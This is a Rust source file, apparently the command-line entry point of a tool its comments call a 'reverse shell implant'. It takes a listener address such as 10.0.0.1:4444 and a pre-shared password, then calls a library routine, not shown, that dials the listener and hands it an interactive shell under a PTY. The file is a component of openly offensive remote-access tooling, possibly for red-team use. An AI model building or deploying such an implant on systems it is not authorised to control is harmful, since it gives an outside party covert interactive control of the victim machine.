//! CLI entry point for the reverse shell implant.

use clap::Parser;

/// Dial a listener and hand it an interactive shell under a PTY.
#[derive(Parser)]
#[command(name = "rshell-shell", version)]
struct Args {
    /// Listener address, e.g. 10.0.0.1:4444
    addr: String,

    /// Pre-shared password used to derive the session key.
    #[arg(short, long)]
    password: String,
}

#[tokio::main]
async fn main() {
    init_logger();
    let args = Args::parse();
    if let Err(e) = rshell_shell::run(&args.addr, &args.password).await {
        eprintln!("✗ {e}");
        std::process::exit(1);
    }
}

fn init_logger() {
    if std::env::var("RUST_LOG").is_err() {
        std::env::set_var("RUST_LOG", "info");
    }
    env_logger::init();
}
